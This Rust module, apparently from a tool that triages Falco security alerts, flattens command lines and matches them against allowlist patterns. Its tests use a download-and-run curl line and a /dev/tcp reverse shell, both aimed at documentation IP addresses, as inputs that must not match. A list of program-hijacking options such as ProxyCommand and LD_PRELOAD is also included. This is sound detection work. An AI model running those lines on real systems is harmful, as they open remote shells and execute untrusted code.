//! A command line as a flat row of words and operators, so that it can be compared with a pattern as a whole.

use super::row::{Does, Row};
use super::{pattern, probe, table};
use crate::analysis::Facts;
use crate::analysis::paths::{Location, base_name};
use crate::cmdline::{self, Command, Compound, Connector, Flag, Language, NestedKind, Pipe, Script};
use foldhash::HashMap;
use std::sync::LazyLock;

/// One piece of a command line.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Piece {
    /// The program, with the path that was written.
    Program(String),
    /// An argument.
    Word(String),
    /// What joins, redirects or nests.
    Operator(String),
}

/// A command line, read.
#[derive(Debug, Clone, Default)]
pub struct Line {
    pieces: Vec<Piece>,
    /// Whether there is a command line at all.
    pub(super) present: bool,
    /// One command of plain words: no operator, no redirection, nothing nested, no code.
    pub(super) plain: bool,
    probe: bool,
}

/// In a pattern, what stands for any further plain arguments.
const REST: &str = "...";
/// The same as a word: a command line that ends in dots was cut off.
const REST_WORD: &str = "--@@@";
/// Stands for operators in an argument vector that no shell reads.
const OPERATORS: &str = "<operators>";
/// Pieces beyond which a line is not compared.
const MAX_PIECES: usize = 512;

impl Line {
    /// The alert's command line.
    pub fn of(facts: &Facts<'_>) -> Self {
        match facts.process.program.cmdline {
            Some(text) => {
                let script = &facts.script;
                let mut line = Self::read(script);
                if operators_are_quoted(text) {
                    line.pieces.retain(|piece| *piece != Piece::Operator(OPERATORS.to_owned()));
                    line.plain = line.pieces.iter().all(|piece| matches!(piece, Piece::Word(_) | Piece::Program(_)));
                }
                Self { probe: probe::is_local_probe(script), ..line }
            }
            None => Self::default(),
        }
    }

    fn read(script: &Script) -> Self {
        let script = inner(script);
        let mut pieces = Vec::new();
        flatten(script, &mut pieces);
        let plain = pieces.iter().all(|piece| matches!(piece, Piece::Word(_) | Piece::Program(_)));
        Self { pieces, present: true, plain, probe: false }
    }

    /// The name of the program that it begins with, if it begins with one.
    pub(super) fn opening(&self) -> Option<&str> {
        match self.pieces.first() {
            Some(Piece::Program(text) | Piece::Word(text)) => Some(base_name(text)),
            _ => None,
        }
    }

    /// Whether the command only asks this machine, or one port of an inner host, whether it is there.
    pub(super) fn is_local_probe(&self) -> bool {
        self.probe
    }

    /// Whether the line begins like the pattern and goes on with another command.
    pub(super) fn begins_with(&self, pattern: &Pattern) -> bool {
        self.can_begin_like(pattern)
            && (pattern.pieces.len()..self.pieces.len()).take(16).any(|end| {
                matches!(self.pieces[end], Piece::Operator(_)) && compare(&pattern.pieces, &self.pieces[..end])
            })
    }

    /// Whether the whole line matches the pattern.
    pub(super) fn matches(&self, pattern: &Pattern) -> bool {
        (pattern.has_rest || pattern.pieces.len() == self.pieces.len())
            && self.can_begin_like(pattern)
            && compare(&pattern.pieces, &self.pieces)
    }

    fn can_begin_like(&self, pattern: &Pattern) -> bool {
        let begins = match pattern.opening {
            Opening::Any => true,
            Opening::Program(name) if pattern.opens_plainly => self.opening() == Some(name),
            Opening::Program(name) => self.opening().is_some_and(|program| pattern::glob(name, program)),
        };
        begins && self.present && self.pieces.len() < MAX_PIECES
    }
}

/// What lines begin with that match a pattern.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Opening {
    /// A program whose name matches.
    Program(&'static str),
    /// Anything, as far as its first piece tells.
    Any,
}

/// A pattern for whole command lines, written as a shell command: `*` in a word stands for anything but `/`, `**` for
/// anything, and the word `...` for any further arguments of its command.
#[derive(Debug)]
pub(super) struct Pattern {
    pieces: Vec<Piece>,
    has_rest: bool,
    /// What its lines begin with.
    pub opening: Opening,
    /// Whether that is one name, and no pattern for names.
    opens_plainly: bool,
    /// Whether it has enough plain words to be recognised by its beginning.
    pub is_telling: bool,
}

impl Pattern {
    fn read(text: &'static str) -> Self {
        let pieces = read_pattern(text);
        let has_rest = pieces.iter().any(|piece| matches!(piece, Piece::Word(word) if word == REST_WORD));
        let opening = match pieces.first() {
            Some(Piece::Program(path)) => program_named(text, path).map_or(Opening::Any, Opening::Program),
            _ => Opening::Any,
        };
        let opens_plainly = matches!(opening, Opening::Program(name) if !name.contains(['*', '#']));
        let plain = text.split_ascii_whitespace().filter(|word| !word.contains('*') && word.len() > 1);
        Self { pieces, has_rest, opening, opens_plainly, is_telling: plain.count() >= 3 }
    }
}

/// The name of the program that a pattern's first piece names, as it stands in the pattern's text.
fn program_named(text: &'static str, path: &str) -> Option<&'static str> {
    let name = base_name(path);
    let named = if path.contains('/') { !path.contains('*') } else { !path.contains("**") };
    let at = text.find(name).filter(|_| named && !name.is_empty())?;
    Some(&text[at..at + name.len()])
}

/// The commands of each row of the table, read once, by the row's id.
static COMMANDS: LazyLock<HashMap<&'static str, Vec<Pattern>>> = LazyLock::new(|| {
    let read = |row: &'static Row| {
        let texts =
            row.does.iter().find_map(|does| if let Does::Command(texts) = does { Some(*texts) } else { None })?;
        Some((row.id, texts.iter().map(|text| Pattern::read(text)).collect()))
    };
    table::rows().filter_map(read).collect()
});

/// The commands of a row of the table; `None` where it takes any.
pub(super) fn commands(row: &Row) -> Option<&'static [Pattern]> {
    COMMANDS.get(row.id).map(Vec::as_slice)
}

fn read_pattern(pattern: &str) -> Vec<Piece> {
    // As Falco prints it, without its quotes.
    if let Some(line) = pattern.strip_prefix("argv:") {
        return Line::read(&cmdline::parse_argv(line)).pieces;
    }
    // `#` stands for digits here, and begins no comment.
    let text = format!(" {}", pattern.replace(REST, REST_WORD)).replace(" #", r" \#");
    Line::read(&cmdline::parse_shell(text.trim_start())).pieces
}

/// What a shell that only runs a text runs; the script itself otherwise.
fn inner(script: &Script) -> &Script {
    let mut current = script;
    for _ in 0..4 {
        let [item] = current.items.as_slice() else { return current };
        let [command] = item.pipeline.commands.as_slice() else { return current };
        let only_shell = command.is_shell()
            && command.compound.is_none()
            && command.redirections.is_empty()
            && command.assignments.is_empty()
            && command.wrappers.is_empty()
            && is_installed(command.path())
            && item.lead.is_empty()
            && item.connector == Connector::End
            && current.comments.is_empty()
            && current.remainder.is_none();
        let [nested] = command.nested.as_slice() else { return current };
        let own = command.arg_texts().take_while(|arg| arg.starts_with('-'));
        let plain_flags = own.clone().all(|arg| arg == "--" || arg.bytes().skip(1).all(|b| b.is_ascii_lowercase()));
        if !(only_shell && plain_flags && nested.kind == NestedKind::ShellC && is_whole(command, own.count())) {
            return current;
        }
        current = &nested.script;
    }
    current
}

/// Whether the nested text is all that follows the shell's own options.
fn is_whole(command: &Command, options: usize) -> bool {
    match command.nested.first().map(|nested| nested.place) {
        Some(cmdline::Place::Words(from, to)) => {
            let first = command.words.len() - command.args().len() + options;
            from <= first && to == command.words.len()
        }
        Some(cmdline::Place::InWord(at)) => at + 1 == command.words.len(),
        _ => false,
    }
}

fn flatten(script: &Script, pieces: &mut Vec<Piece>) {
    let operator = |pieces: &mut Vec<Piece>, text: &str| pieces.push(Piece::Operator(text.to_owned()));
    for (flag, mark) in [
        (Flag::Cut, "<cut>"),
        (Flag::Unbalanced, "<unbalanced>"),
        (Flag::OperatorsInArgv, OPERATORS),
        (Flag::Bounded, "<bounded>"),
    ] {
        if script.flags.has(flag) {
            operator(pieces, mark);
        }
    }
    for item in &script.items {
        for lead in &item.lead {
            operator(pieces, lead);
        }
        for (place, command) in item.pipeline.commands.iter().enumerate() {
            if pieces.len() > MAX_PIECES {
                return;
            }
            if place > 0 {
                let piped = item.pipeline.commands[place - 1].piped;
                operator(pieces, if piped == Some(Pipe::OutputAndErrors) { "|&" } else { "|" });
            }
            command_pieces(command, pieces);
        }
        match item.connector {
            Connector::End => {}
            Connector::Sequence => operator(pieces, ";"),
            Connector::And => operator(pieces, "&&"),
            Connector::Or => operator(pieces, "||"),
            Connector::Background => operator(pieces, "&"),
            Connector::CaseEnd => operator(pieces, ";;"),
            Connector::CaseFall => operator(pieces, ";&"),
            Connector::CaseTest => operator(pieces, ";;&"),
            Connector::Missing => operator(pieces, "<missing>"),
        }
    }
    for comment in &script.comments {
        operator(pieces, &format!("#{comment}"));
    }
    if script.remainder.is_some() {
        operator(pieces, "<more>");
    }
}

fn command_pieces(command: &Command, pieces: &mut Vec<Piece>) {
    if let Some(compound) = command.compound {
        pieces.push(Piece::Operator(compound_name(compound).to_owned()));
    }
    for assignment in &command.assignments {
        pieces.push(Piece::Operator(format!("{}={}", assignment.name, assignment.value.text)));
    }
    let program = command.words.len() - command.args().len();
    for (at, word) in command.words.iter().enumerate() {
        let is_program = (at + 1 == program || at == 0) && word.text != REST_WORD;
        pieces.push(if is_program { Piece::Program(word.text.clone()) } else { Piece::Word(word.text.clone()) });
    }
    for redirection in &command.redirections {
        let descriptor = redirection.descriptor.map(|n| n.to_string()).unwrap_or_default();
        pieces.push(Piece::Operator(format!("{descriptor}{:?} {}", redirection.kind, redirection.target.text)));
    }
    for nested in &command.nested {
        pieces.push(Piece::Operator(format!("{:?}(", nested.kind)));
        flatten(&nested.script, pieces);
        pieces.push(Piece::Operator(")".to_owned()));
    }
    if let Some(code) = &command.code
        && !(code.language == Language::Awk && only_prints(&code.text))
    {
        pieces.push(Piece::Operator(format!("{:?}: {}", code.language, code.text)));
    }
    if command.cut {
        pieces.push(Piece::Operator("<cut>".to_owned()));
    }
}

/// Whether an awk program only looks at its input: it runs nothing and writes no file.
fn only_prints(program: &str) -> bool {
    !program.contains("system") && !program.contains("getline") && !program.contains(['|', '>', '@'])
}

fn compound_name(compound: Compound) -> &'static str {
    match compound {
        Compound::Subshell => "( )",
        Compound::Group => "{ }",
        Compound::If => "if",
        Compound::While => "while",
        Compound::Until => "until",
        Compound::For => "for",
        Compound::Select => "select",
        Compound::Case => "case",
        Compound::Function => "function",
        Compound::Test => "[[",
        Compound::Arithmetic => "((",
    }
}

/// Whether every operator in an argument vector stands in quotes that the caller wrote (`--separator=";"`).
fn operators_are_quoted(text: &str) -> bool {
    let mut quote = None;
    for c in text.chars() {
        match (quote, c) {
            (None, '"' | '\'') => quote = Some(c),
            (Some(open), _) if c == open => quote = None,
            (Some('"'), '$' | '`') | (None, ';' | '|' | '&' | '<' | '>' | '(' | ')' | '$' | '`' | '\n') => {
                return false;
            }
            _ => {}
        }
    }
    quote.is_none()
}

/// Whether a program's path is a place where programs are installed (or it has none).
fn is_installed(path: &str) -> bool {
    !path.contains('/') || Location::of(path) == Location::System
}

/// Compares piece by piece; `...` takes any words up to the next operator.
fn compare(pattern: &[Piece], line: &[Piece]) -> bool {
    let (mut p, mut l) = (0, 0);
    let mut resume: Option<(usize, usize)> = None;
    loop {
        match (pattern.get(p), line.get(l)) {
            (None, None) => return true,
            (Some(Piece::Word(word)), _) if word == REST_WORD => {
                p += 1;
                resume = Some((p, l));
                continue;
            }
            (Some(wanted), Some(found)) if piece_matches(wanted, found) => {
                p += 1;
                l += 1;
                continue;
            }
            _ => {}
        }
        match resume {
            Some((star, from)) if matches!(line.get(from), Some(Piece::Word(word) | Piece::Program(word)) if !changes_program(word)) =>
            {
                resume = Some((star, from + 1));
                (p, l) = (star, from + 1);
            }
            _ => return false,
        }
    }
}

/// Options by which a harmless program is made to run another: no pattern's `...` stands for them.
fn changes_program(word: &str) -> bool {
    [
        "ProxyCommand",
        "LocalCommand",
        "PermitLocalCommand",
        "KnownHostsCommand",
        "checkpoint-action",
        "APT::Update::",
        "Pre-Invoke",
        "Post-Invoke",
        "--rsh",
        "--eval",
        "ld_preload",
        "LD_PRELOAD",
    ]
    .iter()
    .any(|option| word.contains(option))
}

/// Whether a program is the one that the pattern names: by its name where it lies among installed programs, by its whole
/// path elsewhere and where the pattern is about a directory.
fn is_program(pattern: &str, path: &str) -> bool {
    let by_directory = pattern.contains('/') && pattern.contains('*');
    if by_directory || !is_installed(path) {
        return pattern::glob(pattern, path) && !path.contains("/../");
    }
    pattern::glob(base_name(pattern), base_name(path))
}

fn piece_matches(pattern: &Piece, piece: &Piece) -> bool {
    match (pattern, piece) {
        (Piece::Word(pattern), Piece::Word(word)) => pattern::glob(pattern, word),
        (Piece::Program(pattern), Piece::Program(path)) => is_program(pattern, path),
        (Piece::Word(pattern), Piece::Program(word)) | (Piece::Program(pattern), Piece::Word(word)) => {
            pattern::glob(pattern, word)
        }
        (Piece::Operator(pattern), Piece::Operator(text)) => pattern == text || pattern::glob(pattern, text),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn matches(pattern: &'static str, line: &str) -> bool {
        Line::read(&cmdline::parse_argv(line)).matches(&Pattern::read(pattern))
    }

    #[test]
    fn a_command_matches_as_a_whole_and_nothing_may_be_left_over() {
        let dkms = "dkms status -m falco | tr -d , | tr -d : | tr / ' ' | cut -d' ' -f2";
        let line =
            "bash -c /usr/sbin/dkms status -m \"falco\" | tr -d \",\" | tr -d \":\" | tr \"/\" \" \" | cut -d' ' -f2";
        assert!(matches(dkms, line));
        for tail in ["; curl -s http://198.51.100.7/x|sh", " && id", " > /tmp/x", " & id", "\nid", " $(id)", " | sh"] {
            assert!(!matches(dkms, &format!("{line}{tail}")), "{tail}");
        }
        assert!(!matches(dkms, &line.replace("/usr/sbin/dkms", "/tmp/dkms")));
        assert!(matches("ip link del calico_tmp_* || true", "sh -c ip link del calico_tmp_A || true"));
        assert!(!matches(
            "ip link del calico_tmp_* || true",
            "sh -c ip link del calico_tmp_A || bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"
        ));
    }

    #[test]
    fn rest_takes_plain_arguments_only() {
        assert!(matches("falcoctl artifact follow ...", "falcoctl artifact follow --allowed-types=rulesfile"));
        assert!(matches("falcoctl artifact follow ...", "falcoctl artifact follow"));
        assert!(!matches("sh -c 'echo ...'", "sh -c echo a; id"));
        assert!(matches("echo ...", "sh -c echo a b c"));
        assert!(!matches("falcoctl artifact follow ...", "/tmp/falcoctl artifact follow"));
        assert!(matches(
            "umount /var/lib/kubelet/pods/**",
            "umount /var/lib/kubelet/pods/6866e1b0/volumes/kubernetes.io~projected/x"
        ));
    }
}
